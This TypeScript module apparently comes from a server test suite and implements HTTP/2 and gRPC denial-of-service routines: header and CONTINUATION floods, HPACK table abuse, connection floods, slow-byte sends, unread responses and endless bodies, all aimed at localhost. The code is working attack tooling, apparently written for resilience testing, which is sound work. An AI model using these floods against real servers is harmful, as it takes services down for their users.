import {
  KeptFields,
  callFields,
  continuationFrame,
  dataFrame,
  frameFlag,
  frameType,
  grpcMessage,
  headersFrame,
  hpackField,
  hpackFields,
  hpackIndex,
  pingFrame,
  settingsFrame,
  windowFrame,
} from '../../support/http2-frames.js';
import { INSERT, PAIR, UNKNOWN, flood, kept, streams, turn } from './attack.js';
import type { Attack, Flood } from './attack.js';

const { END_HEADERS, END_STREAM } = frameFlag;
export const EMPTY = Buffer.alloc(0);
export const MANY = 256;

/** Calls of one kind by header fields that are repeated in a few bytes. @param more sent after the fields of each */
export function calls(
  fields: KeptFields,
  options: Partial<Flood> & { readonly isOpen?: boolean; readonly more?: (stream: number) => Buffer } = {},
): () => Flood {
  const { isOpen = options.more !== undefined, more, ...rest } = options;
  const flags = isOpen ? END_HEADERS : END_HEADERS | END_STREAM;
  const each = 100;
  return () => ({
    units: each,
    piece: (nth) =>
      streams(nth * each, each, (stream, at) => {
        const head = headersFrame(stream, at === 0 ? fields.first : fields.again, flags);
        return more === undefined ? head : Buffer.concat([head, more(stream)]);
      }),
    ...rest,
  });
}

/** The same frames again and again, after a stream was opened. */
export function frames(make: () => Buffer, count: number, options: Partial<Flood> = {}): () => Flood {
  const bytes = Buffer.concat(Array.from({ length: count }, make));
  return () => ({ units: count, piece: () => bytes, ...options });
}

export const openStream = (path: string): Buffer =>
  headersFrame(1, hpackFields(callFields(path)), END_HEADERS);

export function flooding(name: string, unit: string, make: () => Flood, most?: number): Attack {
  return { name, unit, ...(most !== undefined && { most }), run: (run) => flood(run, make) };
}

export const alternating = (...sizes: readonly number[]): Buffer =>
  Buffer.concat(sizes.map((size) => settingsFrame([4, size], [1, size])));

/** A field of almost a whole table, and blocks that name it again and again. */
const LARGE_FIELD: readonly (readonly [string, string])[] = [['x', 'y'.repeat(3_500)]];
export const requestFields = hpackFields(callFields(UNKNOWN));
export const repeated = (times: number): (() => Flood) => {
  const fields = new KeptFields(LARGE_FIELD);
  const block = Buffer.concat([requestFields, ...Array.from({ length: times }, () => hpackIndex(62))]);
  return () => ({
    units: 20,
    piece: (nth) =>
      streams(nth * 20, 20, (stream, at) =>
        headersFrame(stream, at === 0 ? Buffer.concat([requestFields, fields.first]) : block),
      ),
  });
};

/** A header block of many frames. */
export function inPieces(stream: number, block: Buffer): Buffer {
  const size = 16_000;
  const pieces: Buffer[] = [];
  for (let at = 0; at < block.length; at += size) {
    const piece = block.subarray(at, at + size);
    const flags = at + size >= block.length ? END_HEADERS : 0;
    pieces.push(
      at === 0 ? headersFrame(stream, piece, flags | END_STREAM) : continuationFrame(stream, piece, flags),
    );
  }
  return Buffer.concat(pieces);
}

export const fieldsInNumber = (count: number): Buffer =>
  Buffer.concat([requestFields, ...Array.from({ length: count }, (_, n) => hpackField(`x-${n}`, 'y'))]);

/** Opens connections as fast as it can, and keeps the latest. */
export function connections(name: string, greeting: boolean): Attack {
  return {
    name,
    unit: 'connection',
    run: async (run) => {
      const open = [];
      while (!run.isOver()) {
        open.push(greeting ? await run.greet() : await run.knock());
        run.units++;
        if (open.length > 1_000) open.shift()?.close();
      }
    },
  };
}

export const slowBytes: Attack = {
  name: 'slow bytes: a call byte by byte, 100 connections',
  unit: 'byte',
  run: async (run) => {
    const call = Buffer.concat([openStream(INSERT), dataFrame(1, grpcMessage(PAIR), END_STREAM)]);
    await Promise.all(
      Array.from({ length: 100 }, async () => {
        const client = await run.greet();
        for (let at = 0; at < call.length && !run.isOver(); at++) {
          if (!(await client.send(call.subarray(at, at + 1)))) return;
          run.units++;
          await turn();
        }
      }),
    );
  },
};

/** Streams without end, on as many connections as it takes. */
export function openStreams(name: string, path: string, first: Buffer, most: number): Attack {
  return {
    name,
    unit: 'stream',
    run: async (run) => {
      const perConnection = 1_000;
      while (!run.isOver() && run.units < most) {
        const client = await run.greet();
        const fields = kept(path);
        const send = streams(0, perConnection, (stream, at) =>
          Buffer.concat([
            headersFrame(stream, at === 0 ? fields.first : fields.again, END_HEADERS),
            ...(first.length > 0 ? [dataFrame(stream, first)] : []),
          ]),
        );
        if (!(await client.send(Buffer.concat([send, pingFrame()])))) continue;
        while (client.answeredPings === 0 && !client.isClosed()) await client.heard();
        run.units += perConnection;
      }
      while (!run.isOver()) await turn();
    },
  };
}

/**
 * Calls whose answers are not taken.
 * @param isStopped whether nothing is read at all any more, instead of no room given
 */
export function unread(
  name: string,
  fields: KeptFields,
  message: Buffer | undefined,
  isStopped: boolean,
): Attack {
  const each = 100;
  return {
    name,
    unit: 'call',
    run: async (run) => {
      while (!run.isOver()) {
        const client = await run.greet([4, isStopped ? 2 ** 20 : 0]);
        await client.send(windowFrame(0, 2 ** 30));
        if (isStopped) client.socket.pause();
        for (let nth = 0; nth < (isStopped ? 1_000 : 10) && !run.isOver() && !client.isClosed(); nth++) {
          const send = streams(nth * each, each, (stream, at) => {
            const block = at === 0 ? fields.first : fields.again;
            if (message === undefined) return headersFrame(stream, block);
            return Buffer.concat([
              headersFrame(stream, block, END_HEADERS),
              dataFrame(stream, message, END_STREAM),
            ]);
          });
          const isTaken = await Promise.race([
            client.send(Buffer.concat([send, pingFrame()])),
            turnsOf(200).then(() => false),
          ]);
          // What waits within the system would be served when the attack is over.
          if (isStopped) await turnsOf(20);
          else while (client.answeredPings <= nth && !client.isClosed()) await client.heard();
          if (!isTaken) break;
          run.units += each;
        }
      }
    },
  };
}

const turnsOf = (ms: number): Promise<void> =>
  new Promise((resolve) => {
    setTimeout(resolve, ms).unref();
  });

/** A body that never ends, sent as fast as the server gives room for it. */
export function endlessBodies(name: string, fields: KeptFields, first: Buffer): Attack {
  return {
    name,
    unit: 'KiB',
    run: async (run) => {
      const piece = Buffer.alloc(16 * 1024, 0x41);
      await Promise.all(
        Array.from({ length: 8 }, async () => {
          while (!run.isOver()) {
            const client = await run.greet();
            await client.send(windowFrame(0, 2 ** 30));
            for (let nth = 0; !run.isOver() && !client.isClosed(); nth++) {
              const stream = 2 * nth + 1;
              const head = headersFrame(stream, nth === 0 ? fields.first : fields.again, END_HEADERS);
              // Three pieces are within the first window of a stream; 32 such streams are sent at a time.
              const sent = Buffer.concat([
                head,
                dataFrame(stream, Buffer.concat([first, piece.subarray(first.length)])),
                dataFrame(stream, piece),
                dataFrame(stream, piece),
              ]);
              if (!(await client.send(sent))) break;
              run.units += 48;
              const given = client.count(frameType.WINDOW_UPDATE);
              const end = Date.now() + 100;
              while (
                client.count(frameType.WINDOW_UPDATE) === given &&
                Date.now() < end &&
                !client.isClosed()
              ) {
                await turn();
              }
            }
          }
        }),
      );
    },
  };
}

export const large = grpcMessage(Buffer.alloc(4_000_000)).subarray(0, 5);
export const PAGE = new KeptFields([
  [':method', 'GET'],
  [':scheme', 'http'],
  [':path', '/'],
  [':authority', 'localhost'],
]);
export const POST_PAGE = new KeptFields([
  [':method', 'POST'],
  [':scheme', 'http'],
  [':path', '/'],
  [':authority', 'localhost'],
  ['content-type', 'text/plain'],
]);
export const FOREIGN_PAGE = new KeptFields([
  [':method', 'GET'],
  [':scheme', 'http'],
  [':path', '/'],
  [':authority', 'mal.example'],
]);
